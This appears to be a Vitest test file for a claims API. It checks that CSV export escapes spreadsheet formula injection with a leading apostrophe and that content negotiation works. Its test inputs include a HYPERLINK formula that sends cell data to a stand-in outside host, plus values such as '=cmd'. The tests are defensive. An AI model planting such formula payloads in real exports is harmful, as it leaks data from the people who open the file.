import { describe, expect, it } from 'vitest';
import { testApp } from '../support/app.js';
import { csvObjects } from '../support/csv.js';

const t = await testApp();
const get = (url: string, headers?: Record<string, string>) => t.send('GET', url, undefined, headers);

async function claim(input: object): Promise<string> {
  const answer = await t.send('POST', '/v1/claims', { text: 'A claim.', ...input });
  expect(answer.status, answer.text).toBe(201);
  return answer.json.id;
}
const rowOf = async (id: string) =>
  csvObjects((await get('/v1/claims?format=csv')).text).find((row) => row.id === id)!;

describe('GET /v1/claims?format=csv', () => {
  it('holds a text that a spreadsheet could run behind an apostrophe, which JSON and NDJSON do not', async () => {
    const text = '=HYPERLINK("https://example.org/?"&A1,"x")';
    const id = await claim({ text });
    expect((await rowOf(id)).text).toBe(`'${text}`);
    expect((await get(`/v1/claims/${id}`)).json.text).toBe(text);
    const ndjson = (await get('/v1/claims?format=ndjson')).text.trim().split('\n');
    expect(ndjson.map((line) => JSON.parse(line).text)).toContain(text);
  });

  it('keeps numbers as they are, and holds names and lists of names to the same as texts', async () => {
    await t.send('POST', '/v1/parties', { key: 'evil', kind: 'other', name: '=cmd' });
    const id = await claim({
      subject: 'evil',
      value: { type: 'quantity', lower: '-10.5', value: '-7', unit: '@unit', as_stated: '=A1' },
      attributions: [{ party: 'evil', stance: 'denies' }],
    });
    expect(await rowOf(id)).toMatchObject({
      ...{ subject: "'=cmd", denied_by: "'=cmd", unit: "'@unit", as_stated: "'=A1" },
      ...{ lower: '-10.5', value: '-7' },
    });
    const parties = csvObjects((await get('/v1/parties?format=csv')).text);
    expect(parties.map(({ name }) => name)).toEqual(["'=cmd"]);
  });

  it('gives back a text with line breaks, quotes and commas as it was', async () => {
    const text = 'first,\r\n"second"\n💥';
    expect((await rowOf(await claim({ text }))).text).toBe(text);
  });
});

describe('GET /v1/claims', () => {
  it.each([
    ['text/csv', 'text/csv; charset=utf-8'],
    ['application/x-ndjson', 'application/x-ndjson'],
    ['application/ndjson', 'application/x-ndjson'],
    ['application/json', 'application/json'],
    ['*/*', 'application/json'],
    ['application/*', 'application/json'],
    ['text/*', 'text/csv; charset=utf-8'],
    ['text/csv;q=0.5, application/json;q=0.4', 'text/csv; charset=utf-8'],
    ['text/csv;q=0.4, application/json', 'application/json'],
    ['image/png, text/csv;q=0.1', 'text/csv; charset=utf-8'],
    ['application/json;q=0, */*', 'text/csv; charset=utf-8'],
  ])('with Accept: %s is sent as %s', async (accept, type) => {
    const answer = await get('/v1/claims?limit=1', { accept });
    expect([answer.status, String(answer.headers['content-type'])]).toEqual([200, type]);
    expect(answer.headers.vary).toContain('Accept');
  });

  it.each(['image/png', 'text/html', 'application/xml', 'application/json;q=0', 'nonsense'])(
    'with Accept: %s is 406',
    async (accept) => {
      for (const list of ['/v1/claims', '/v1/parties', '/v1/attributions']) {
        const answer = await get(list, { accept });
        expect([answer.status, answer.json.code]).toEqual([406, 'not_acceptable']);
      }
    },
  );

  it('with format= is sent in that form, whatever Accept says', async () => {
    const csv = await get('/v1/claims?format=csv', { accept: 'application/json' });
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    const json = await get('/v1/claims?format=json&limit=1', { accept: 'text/csv' });
    expect(json.json.items).toHaveLength(1);
    expect((await get('/v1/claims?format=ndjson', { accept: 'image/png' })).status).toBe(200);
  });

  it('with view=input has a media type of its own, which can be asked for', async () => {
    const type = 'application/vnd.attested.input+json';
    for (const accept of [type, 'application/json', '*/*']) {
      const answer = await get('/v1/claims?view=input&limit=1', { accept });
      expect([answer.status, String(answer.headers['content-type'])]).toEqual([200, type]);
    }
    expect((await get('/v1/claims', { accept: type })).status).toBe(406);
  });
});
